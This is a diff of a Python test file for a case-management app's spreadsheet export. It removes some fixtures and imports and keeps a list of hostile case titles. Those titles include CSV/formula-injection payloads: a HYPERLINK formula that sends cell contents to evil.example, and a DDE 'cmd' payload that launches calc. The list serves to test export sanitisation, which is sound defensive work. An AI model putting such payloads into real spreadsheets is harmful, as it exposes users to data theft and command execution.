@@ -6,7 +6,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from pathlib import Path
 from typing import Any
 
 import pytest
@@ -16,11 +15,9 @@ from openpyxl import load_workbook
 
 from redress.api.services import api_token_issue
 from redress.cases.models import Case, CaseEvent, Category
-from redress.cases.testing import local_time, submit_case
-from redress.core import clock
+from redress.cases.testing import submit_case
 from redress.orgs.testing import Cast
 
-NOW = local_time(2026, 3, 10, 10)
 HOSTILE_TITLES = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "+1+cmd|' /C calc'!A0",
@@ -30,17 +27,6 @@ HOSTILE_TITLES = [
     "\r=1+1",
     "控制\x01字符",
 ]
-
-
-@pytest.fixture(autouse=True)
-def _media(settings: Any, tmp_path: Path) -> None:
-    settings.MEDIA_ROOT = tmp_path
-
-
-@pytest.fixture(autouse=True)
-def _now() -> Any:
-    with clock.frozen_at(NOW):
-        yield
 
 
 def _hostile_cases(cast: Cast) -> None:
